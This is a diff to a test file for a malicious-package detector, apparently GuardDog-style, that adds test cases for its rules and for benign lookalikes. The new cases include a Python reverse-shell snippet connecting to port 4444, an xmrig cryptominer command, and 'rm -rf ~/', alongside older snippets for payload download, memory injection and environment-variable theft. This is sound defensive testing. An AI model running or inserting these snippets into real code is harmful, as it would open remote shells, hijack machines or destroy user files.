@@ -276,6 +276,11 @@ def test_shipped_ruleset_is_valid():
         ("pkg/dl.py", 'urllib.request.urlretrieve(URL, "update.exe")', "mp.exec.download-executable"),
         ("pkg/img.py", "from stegano import lsb\nexec(lsb.reveal('cat.png'))", "mp.exec.steganography"),
         ("pkg/w.py", "kernel32.WriteProcessMemory(handle, addr, buf, size, None)", "mp.inject.process-memory"),
+        (
+            "pkg/rs.py",
+            's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)',
+            "mp.exec.reverse-shell",
+        ),
     ],
 )
 def test_guarddog_family_techniques_block_alone(path, body, rule):
@@ -301,6 +306,8 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
         ("pkg/a.py", "name = ''.join(chr(c) for c in [101, 118, 97, 108])", "mp.obfuscation.py-idioms"),
         ("lib/pkg.rb", "Gem.post_install do |installer|\n  system('id')\nend", "mp.hook.rubygems-install"),
         ("index.js", "const s = JSON.stringify(process['env'])", "mp.creds.serialize-environment"),
+        ("pkg/m.py", 'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example:3333"])', "mp.process.cryptominer"),
+        ("pkg/w.py", 'os.system("rm -rf ~/")', "mp.destruction"),
     ],
 )
 def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
@@ -319,6 +326,8 @@ def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
         ("pkg/a.py", "proc = subprocess.run(cmd, creationflags=subprocess.CREATE_NO_WINDOW)"),
         ("pkg/a.py", 'session.get("http://127.0.0.1:8080/health")'),
         ("docs/a.md", "* [markdown nesting](https://example.com) [[[[[[[[[[[[[[[[[[[[[foo]()"),
+        ("pkg/c.py", 'shutil.rmtree(os.path.expanduser("~/.cache/demo"))'),
+        ("build.sh", "rm -rf /tmp/build-dir"),
     ],
 )
 def test_lookalikes_of_guarddog_families_stay_below_the_vote(path, body):
